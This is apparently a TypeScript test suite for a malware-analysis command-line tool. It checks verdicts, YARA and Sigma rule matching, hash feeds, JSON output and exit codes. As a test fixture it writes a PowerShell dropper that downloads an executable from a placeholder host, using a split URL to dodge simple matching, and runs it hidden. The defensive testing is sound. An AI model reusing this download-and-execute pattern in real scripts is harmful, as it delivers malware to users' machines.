// `assay analyze file` from the paths to the table, the full report, the JSON and the exit code.
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { subscribe, unsubscribe } from 'node:diagnostics_channel'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Writable } from 'node:stream'
import { after, before, describe, it } from 'node:test'
import { type FileRecord, fileRecord } from '@assay/contract'
import { commands } from '../src/commands/registry.ts'
import { runCommandLine } from '../src/run.ts'
import './no-settings.ts'

const DROPPER = `$p = "$env:TEMP\\update.exe"
(New-Object Net.WebClient).DownloadFile(('ht' + 'tp://files.example.invalid/a.exe'), $p)
Start-Process $p -WindowStyle Hidden
`

async function analyze(...words: readonly string[]): Promise<{ readonly code: number; readonly text: string }> {
  let text = ''
  const out = new Writable({
    write: (chunk, _encoding, done) => {
      text += String(chunk)
      done()
    },
  })
  const code = await runCommandLine(commands, ['analyze', 'file', ...words], { out, err: out })
  return { code, text }
}

describe('assay analyze file', { timeout: 120_000 }, () => {
  const folder = mkdtempSync(join(tmpdir(), 'analyze-'))
  const dropper = join(folder, 'setup.ps1')
  before(() => {
    writeFileSync(dropper, DROPPER)
    writeFileSync(join(folder, 'notes.txt'), 'Buy milk, call home.\n')
  })
  after(() => rmSync(folder, { recursive: true }))

  it('tells what a script did when an emulator ran it', async () => {
    const { code, text } = await analyze(dropper)
    assert.equal(code, 2)
    assert.match(text, /^MALICIOUS/)
    assert.match(text, /sha256 {2}[0-9a-f]{64}/)
    assert.match(text, /trace_fetches_further_stage \(seen when it ran\)/)
    assert.match(text, /When it ran \(PowerShell .* emulated\)/)
    assert.match(text, /http +GET http:\/\/files\.example\.invalid\/a\.exe/)
  })

  it('names the rules that match, and tells of a rule that cannot be used', async () => {
    const rules = mkdtempSync(join(folder, 'rules-'))
    writeFileSync(join(rules, 'milk.yar'), 'rule buys_milk { strings: $a = "milk" condition: $a }')
    writeFileSync(join(rules, 'broken.yar'), 'rule broken { condition: nothing }')
    process.env['ASSAY_RULES_DIR'] = rules
    try {
      const { code, text } = await analyze('--static-only', join(folder, 'notes.txt'))
      assert.equal(code, 0)
      assert.match(text, /Rules that match, by their own score\n +- {2}user\/buys_milk\n/)
      assert.equal([...text.matchAll(/a rule cannot be used: broken\.yar/g)].length, 1)
    } finally {
      delete process.env['ASSAY_RULES_DIR']
      rmSync(rules, { recursive: true })
    }
  })

  it('asks the lists of the operator, and tells of one that cannot be used', async () => {
    const feeds = mkdtempSync(join(tmpdir(), 'feeds-'))
    mkdirSync(join(feeds, 'bad'))
    writeFileSync(
      join(feeds, 'bad', 'ours.txt'),
      `${createHash('sha256').update('Buy milk, call home.\n').digest('hex')} the note\n`,
    )
    writeFileSync(join(feeds, 'loose.txt'), 'bad.example\n')
    try {
      const { code, text } = await analyze('--static-only', '--feeds', feeds, join(folder, 'notes.txt'))
      assert.equal(code, 2)
      assert.match(text, /known_bad_file/)
      assert.match(text, /on the list "bad\/ours\.txt"/)
      assert.match(text, /the list loose\.txt cannot be used: nothing says whether it is good or bad/)
    } finally {
      rmSync(feeds, { recursive: true })
    }
  })

  it('holds what ran against rules of Sigma, and tells of one that cannot be used', async () => {
    const rules = mkdtempSync(join(tmpdir(), 'sigma-'))
    const rule = (title: string, search: string): string =>
      `title: ${title}\nauthor: Kim\nlevel: high\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  a:\n    ${search}\n  condition: a\n`
    writeFileSync(join(rules, 'ours.yml'), rule('Starts the update', "Image|endswith: '\\update.exe'"))
    writeFileSync(join(rules, 'broken.yml'), rule('Never', "CommandLine|expand: '%x%'"))
    process.env['ASSAY_RULES_DIR'] = rules
    try {
      const { text } = await analyze(dropper)
      assert.match(text, /the Sigma rule "Starts the update" \(by Kim, high\)/)
      assert.match(text, /a rule cannot be used: broken\.yml: the modifier "expand"/)
    } finally {
      delete process.env['ASSAY_RULES_DIR']
      rmSync(rules, { recursive: true })
    }
  })

  it('names a folder of lists that is none', async () => {
    const { code, text } = await analyze('--feeds', join(folder, 'nowhere'), join(folder, 'notes.txt'))
    assert.notEqual(code, 0)
    assert.match(text, /--feeds must name a folder/)
  })

  it('looks only, where it was told so', async () => {
    const { text } = await analyze('--static-only', dropper)
    assert.doesNotMatch(text, /When it ran|seen when it ran/)
    assert.match(text, /script_downloads_and_runs/)
  })

  it('shows a folder as a table with reasons in words, and the worst decides the exit code', async () => {
    const { code, text } = await analyze(folder)
    assert.equal(code, 2)
    // Whichever of the reasons weighs most: all of them say what was done.
    assert.match(text, /malicious +\d+ +script +\S*setup\.ps1 +\w.*\b(?:fetched|downloaded)\b/)
    assert.match(text, /clean +0 +text +\S*notes\.txt\n/)
    assert.match(text, /\n1 malicious, 1 clean\n$/)
  })

  it('prints one line of JSON a file, in the very shape of the API', async () => {
    const { text } = await analyze('--json', dropper)
    const line = JSON.parse(text.split('\n').find((one) => one.startsWith('{')) ?? '') as {
      readonly path: string
      readonly data: FileRecord
    }
    assert.equal(line.path, dropper)
    assert.deepEqual(fileRecord.safeParse(line.data).error, undefined)
    assert.equal(line.data.verdict, 'malicious')
    assert.deepEqual(
      line.data.pipeline_stages?.map(({ name, status }) => `${name} ${status}`),
      ['static complete', 'dynamic complete'],
    )
    assert.equal(line.data.analysis_results?.schema_version, '1.0')
    assert.match(JSON.stringify(line.data.analysis_results?.['behavior']), /"runs":/)
  })

  it('starts no process for what cannot be judged', async () => {
    let started = 0
    const count = (): void => {
      started += 1
    }
    subscribe('child_process', count)
    try {
      writeFileSync(join(folder, 'empty'), '')
      for (const path of ['nope.bin', 'empty']) assert.equal((await analyze(join(folder, path))).code, 1)
      assert.equal(started, 0)
      assert.equal((await analyze('--static-only', join(folder, 'notes.txt'))).code, 0)
      assert.ok(started > 0)
    } finally {
      unsubscribe('child_process', count)
      rmSync(join(folder, 'empty'))
    }
  })

  it('refuses options that exclude each other', async () => {
    const { code, text } = await analyze('--static-only', '--sandbox', dropper)
    assert.equal(code, 1)
    assert.match(text, /exclude each other/)
  })
})
